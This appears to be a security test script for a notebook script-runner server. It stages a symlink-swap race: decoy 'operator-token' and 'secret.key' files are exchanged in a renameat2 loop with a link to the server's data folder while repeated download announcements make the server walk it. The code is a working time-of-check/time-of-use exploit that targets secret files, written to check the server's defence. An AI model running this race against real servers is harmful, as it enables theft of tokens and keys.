# ---
# hostile:
#   tries: Swaps a folder of downloads with a link to the server's data folder while the server walks it.
#   holds: The server reads the folder or nothing, never what the link leads to.
#   outcomes: [succeeded]
# ---

# %% tags=["parameters"]
data: str = "/nowhere"

# %%
import os
import subprocess
import sys

output = os.environ["SCRIPT_RUNNER_OUTPUT_DIR"]
os.mkdir(os.path.join(output, "swap"))
for name in ["operator-token", "secret.key"]:
    with open(os.path.join(output, "swap", name), "w") as file:
        file.write("harmless")
os.symlink(data, os.path.join(output, ".evil"))
code = """
import ctypes, sys
libc = ctypes.CDLL(None)
swap, evil = [(sys.argv[1] + name).encode() for name in ("/swap", "/.evil")]
while True:
    libc.renameat2(-100, swap, -100, evil, 2)
"""
subprocess.Popen([sys.executable, "-c", code, output], start_new_session=True)


def announce(file, name):
    said = {"kind": "download", "file": file, "name": name}
    get_ipython().display_pub.publish(data={"application/vnd.script-runner+json": said, "text/plain": ""})


# %%
for index in range(300):
    announce("swap/operator-token", "token.txt")
    announce("swap/secret.key", "key.txt")
print("the end")
